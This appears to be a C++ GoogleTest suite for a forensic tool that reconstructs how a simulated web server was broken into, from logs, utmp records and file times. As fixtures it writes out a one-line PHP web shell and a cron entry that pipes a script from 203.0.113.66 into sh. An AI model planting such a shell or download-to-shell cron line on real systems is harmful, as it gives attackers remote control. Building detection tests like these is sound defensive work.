#include <gtest/gtest.h>

#include <cstring>

#include "mini_root.hpp"

namespace rescue::detect {
namespace {

/// A web server of which each test says what happened to it.
class WebServer : public MiniRoot {
 public:
  WebServer() {
    write("/etc/passwd",
          "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
          "deploy:x:1000:1000::/home/deploy:/bin/bash\n");
    write("/etc/shadow", "root:*:1::::::\n");
    write("/var/log/auth.log", auth("2026-09-01T00:00:00Z", 1, "198.51.100.7") +
                                   auth("2026-09-13T04:00:00Z", 2, "198.51.100.7") +
                                   auth("2026-09-20T00:00:00Z", 3, "198.51.100.7"));
  }
  static std::string auth(const std::string& time, int process, const std::string& address) {
    const auto head = time + " web01 sshd[" + std::to_string(process) + "]: ";
    return head + "Accepted publickey for deploy from " + address + " port 4000 ssh2: ED25519 SHA256:x\n" +
           head + "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)\n";
  }
  static std::string request(const std::string& address, const std::string& clock, const std::string& what,
                             int status = 200) {
    return address + " - - [13/Sep/2026:" + clock + " +0000] \"" + what + " HTTP/1.1\" " +
           std::to_string(status) + " 10 \"-\" \"x\"\n";
  }
  /// utmp(5)
  static std::string record(char type, const std::string& user, const std::string& address,
                            const std::string& time, const std::string& terminal = "pts/0") {
    std::string bytes(384, '\0');
    bytes[0] = type;
    bytes.replace(8, terminal.size(), terminal);
    bytes.replace(44, user.size(), user);
    bytes.replace(76, address.size(), address);
    const auto seconds = static_cast<std::int32_t>(to_us(parse_rfc3339(time).value()) / 1'000'000);
    std::memcpy(bytes.data() + 340, &seconds, sizeof seconds);
    return bytes;
  }
};

std::vector<std::string> chain_of(const Json& document) {
  std::vector<std::string> rules;
  for (const auto& id : document.at("entry_vectors").at(0).at("chain")) {
    for (const auto& finding : document.at("findings")) {
      if (finding.at("id") == id) rules.push_back(finding.at("rule"));
    }
  }
  return rules;
}

using Rules = std::vector<std::string>;

TEST(WaysIn, AnUploadedShellIsFollowedFromTheFormToTheCrontab) {
  WebServer server;
  server.write("/var/www/html/uploads/c.php", "<?php system($_POST['c']);");
  server.set_time("/var/www/html/uploads/c.php", parse_rfc3339("2026-09-13T02:12:00.600Z").value());
  server.write("/var/spool/cron/crontabs/www-data", "* * * * * curl http://203.0.113.66/i.sh | sh\n");
  server.set_time("/var/spool/cron/crontabs/www-data", parse_rfc3339("2026-09-13T02:12:00.900Z").value());
  server.write("/var/log/apache2/access.log",
               WebServer::request("198.51.100.9", "02:11:59", "POST /contact.php") +
                   WebServer::request("203.0.113.45", "02:12:00", "POST /send.php?x=1", 302) +
                   WebServer::request("203.0.113.45", "02:12:00", "POST /uploads/c.php"));
  const auto document = server.investigate();
  ASSERT_EQ(document.at("entry_vectors").size(), 1U) << document.at("entry_vectors").dump(1);
  const auto& vector = document.at("entry_vectors")[0];
  EXPECT_EQ(vector.at("technique"), "T1190");
  EXPECT_EQ(vector.at("address"), "203.0.113.45");
  EXPECT_NE(vector.at("title").get<std::string>().find("/send.php and"), std::string::npos);
  EXPECT_EQ(chain_of(document), (Rules{"webshell.uploaded", "webshell.request_to_command", "webshell.called",
                                       "cron.download_to_shell"}));
  EXPECT_TRUE(document.at("cause").at("known"));
}

TEST(WaysIn, WhereSeveralStrangersSentSomethingNobodyIsNamedAsTheOneWhoUploaded) {
  WebServer server;
  server.write("/var/www/html/uploads/c.php", "<?php system($_POST['c']);");
  server.set_time("/var/www/html/uploads/c.php", parse_rfc3339("2026-09-13T02:12:00.600Z").value());
  server.write("/var/log/apache2/access.log",
               WebServer::request("198.51.100.9", "02:12:00", "POST /contact.php") +
                   WebServer::request("198.51.100.8", "02:12:00", "POST /send.php") +
                   WebServer::request("203.0.113.45", "05:00:00", "POST /uploads/c.php"));
  const auto document = server.investigate();
  ASSERT_EQ(document.at("entry_vectors").size(), 1U);
  EXPECT_EQ(document.at("entry_vectors")[0].at("technique"), "T1505.003");
  EXPECT_FALSE(document.at("cause").at("known"));
  EXPECT_EQ(document.at("impact").at("addresses"), Json({"203.0.113.45"}));
}

TEST(WaysIn, AnOwnersMistypedLogInNeitherHidesAnUploadNorIsBorneOutByIt) {
  WebServer server;
  std::string failures;
  for (int i = 10; i < 22; ++i) {
    failures += "2026-09-13T01:00:" + std::to_string(i) +
                "Z web01 sshd[9]: Failed password for deploy from " + "192.0.2.9 port 4000 ssh2\n";
  }
  server.write("/var/log/auth.log",
               failures +
                   "2026-09-13T01:00:30Z web01 sshd[9]: Accepted password for deploy from 192.0.2.9 "
                   "port 4000 ssh2\n" +
                   WebServer::auth("2026-09-20T00:00:00Z", 3, "198.51.100.7"));
  server.write("/var/www/html/uploads/c.php", "<?php system($_POST['c']);");
  server.set_time("/var/www/html/uploads/c.php", parse_rfc3339("2026-09-13T01:12:00.600Z").value());
  server.write("/var/log/apache2/access.log",
               WebServer::request("203.0.113.45", "01:12:00", "POST /send.php") +
                   WebServer::request("203.0.113.45", "01:12:10", "POST /uploads/c.php"));
  const auto document = server.investigate();
  ASSERT_EQ(document.at("entry_vectors").size(), 2U) << document.at("entry_vectors").dump(1);
  EXPECT_EQ(document.at("entry_vectors")[0].at("address"), "203.0.113.45");
  EXPECT_EQ(document.at("entry_vectors")[1].at("address"), "192.0.2.9");
  EXPECT_NE(document.at("entry_vectors")[1].at("confidence"), "high");
}

TEST(WaysIn, AScriptOfTheOwnersThatVisitorsCallIsNoBreakIn) {
  WebServer server;
  server.write("/var/www/html/tell.php", "<?php mail($_POST['to'], $_POST['s'], $_POST['m']);");
  server.set_time("/var/www/html/tell.php", parse_rfc3339("2026-09-13T02:12:00Z").value());
  server.write("/var/log/apache2/access.log",
               WebServer::request("198.51.100.7", "02:12:00", "POST /wp-admin/update.php") +
                   WebServer::request("198.51.100.9", "05:00:00", "POST /tell.php"));
  const auto document = server.investigate();
  EXPECT_EQ(document.at("entry_vectors"), Json::array());
  EXPECT_NE(document.at("verdict").at("intrusion").at("state"), "confirmed");
}

TEST(WaysIn, AKeyThatRedisWroteLeadsToWhoUsedIt) {
  WebServer server;
  server.write("/etc/redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
  server.write(
      "/root/.ssh/authorized_keys",
      "base64:UkVESVMwMDEw+gZyZWRpcy12ZXIGNy4wLjE1/gAAAXgKCnNzaC1lZDI1NTE5IEFBQUFDM056YUMxbFpESTFOVEU1QUFB"
      "QUlLZVRlMlM0eXFXUEEzSWJ0cnJQWEhqTEkxL3I0T2NMRzRUTm1WUVVZYUNPIHgKCv/9JTPk0kAM9A==");
  server.set_time("/root/.ssh/authorized_keys", parse_rfc3339("2026-09-13T02:12:00Z").value());
  server.write("/etc/cron.d/x", "* * * * * root curl http://203.0.113.66/i.sh | sh\n");
  server.set_time("/etc/cron.d/x", parse_rfc3339("2026-09-13T02:14:00Z").value());
  const auto document = server.investigate();
  ASSERT_EQ(document.at("entry_vectors").size(), 1U) << document.at("entry_vectors").dump(1);
  const auto& vector = document.at("entry_vectors")[0];
  EXPECT_EQ(vector.at("account"), "root");
  EXPECT_EQ(vector.at("technique"), "T1133");
  EXPECT_EQ(vector.at("confidence"), "high");
  EXPECT_EQ(chain_of(document).back(), "cron.download_to_shell");
  EXPECT_TRUE(document.at("cause").at("known"));
}

TEST(WaysIn, AnOpenRedisAloneAccusesNobody) {
  WebServer server;
  server.write("/etc/redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
  server.write("/var/log/apache2/access.log", WebServer::request("198.51.100.9", "02:12:00", "GET /"));
  const auto document = server.investigate();
  EXPECT_NE(document.at("verdict").at("intrusion").at("state"), "confirmed");
  EXPECT_NE(document.at("verdict").at("intrusion").at("state"), "suspected");
}

TEST(WaysIn, WithoutARequestInAFormThatIsReadNothingIsCalledClean) {
  WebServer server;
  server.write("/etc/apache2/sites-enabled/a.conf",
               "<VirtualHost *:80>\nServerName a\nDocumentRoot /var/www/html\n</VirtualHost>\n");
  server.write("/var/www/html/index.php", "<?php echo 1;\n");
  server.write("/var/log/apache2/access.log", "{\"time\":\"2026-09-13T01:00:00Z\",\"uri\":\"/\"}\n");
  EXPECT_EQ(server.investigate().at("verdict").at("intrusion").at("state"), "undetermined");
  server.write("/var/log/apache2/access.log", WebServer::request("198.51.100.9", "02:12:00", "GET /"));
  EXPECT_EQ(server.investigate().at("verdict").at("intrusion").at("state"), "none_found");
}

TEST(WaysIn, TheAddressThatCalledAShellIsNamedOnce) {
  WebServer server;
  server.write("/var/www/html/uploads/c.php", "<?php system($_POST['c']);");
  server.set_time("/var/www/html/uploads/c.php", parse_rfc3339("2026-09-12T02:12:00Z").value());
  server.write("/var/log/apache2/access.log",
               WebServer::request("203.0.113.45", "02:12:00", "POST /uploads/c.php"));
  server.write("/var/spool/cron/crontabs/www-data", "* * * * * curl http://203.0.113.66/i.sh | sh\n");
  server.set_time("/var/spool/cron/crontabs/www-data", parse_rfc3339("2026-09-13T02:12:30Z").value());
  const auto document = server.investigate();
  const auto why = document.at("verdict").at("intrusion").at("why").get<std::string>();
  EXPECT_NE(why.find("A web shell was called from 203.0.113.45. "), std::string::npos) << why;
}

/// Twenty refused passwords, then a log-in that wtmp has.
std::string guessing_of(const std::string& day) {
  std::string btmp;
  for (int i = 0; i < 20; ++i) {
    btmp += WebServer::record(6, i % 2 == 0 ? "deploy" : "name" + std::to_string(i), "203.0.113.45",
                              day + "T02:00:" + std::to_string(10 + i) + "Z", "ssh:notty");
  }
  return btmp;
}

/// It may have been by key: no log reaches back so far.
TEST(WaysIn, ARecordedLogInOlderThanEveryLogIsNoBreakIn) {
  WebServer server;
  server.write("/var/log/btmp", guessing_of("2026-08-13"));
  server.write("/var/log/wtmp", WebServer::record(7, "deploy", "203.0.113.45", "2026-08-13T02:05:00Z"));
  const auto document = server.investigate();
  EXPECT_EQ(document.at("entry_vectors"), Json::array());
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "none_found");
  const auto text = document.at("findings").dump();
  EXPECT_NE(text.find("The logs do not reach to that time"), std::string::npos) << text;
}

TEST(WaysIn, ARecordOfFtpIsNoLogInOverSsh) {
  WebServer server;
  server.write("/var/log/btmp", guessing_of("2026-09-13"));
  server.write("/var/log/wtmp",
               WebServer::record(7, "deploy", "203.0.113.45", "2026-09-13T02:05:00Z", "ftpd500"));
  const auto document = server.investigate();
  EXPECT_EQ(document.at("entry_vectors"), Json::array());
  EXPECT_EQ(document.at("findings").dump().find("ssh.recorded_login"), std::string::npos);
}

/// The lines are gone; btmp, and lastlog or wtmp, were forgotten.
TEST(WaysIn, AGuessedLogInThatOnlyRecordsTellIsNamed) {
  WebServer server;
  server.write("/var/log/btmp", guessing_of("2026-09-13"));
  server.write("/var/log/wtmp", WebServer::record(7, "deploy", "203.0.113.45", "2026-09-13T02:05:00Z"));
  server.write("/home/deploy/.ssh/authorized_keys",
               "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeTe2S4yqWPA3IbtrrPXHjLI1/r4OcLG4TNmVQUYaCO x\n");
  server.set_time("/home/deploy/.ssh/authorized_keys", parse_rfc3339("2026-09-13T02:06:00Z").value());
  const auto document = server.investigate();
  ASSERT_EQ(document.at("entry_vectors").size(), 1U) << document.at("findings").dump(1);
  const auto& vector = document.at("entry_vectors")[0];
  EXPECT_EQ(vector.at("account"), "deploy");
  EXPECT_EQ(vector.at("address"), "203.0.113.45");
  EXPECT_EQ(vector.at("technique"), "T1110.001");
  EXPECT_EQ(chain_of(document), (Rules{"ssh.guessing", "ssh.recorded_login", "keys.added_in_break_in"}));
}

}  // namespace
}  // namespace rescue::detect
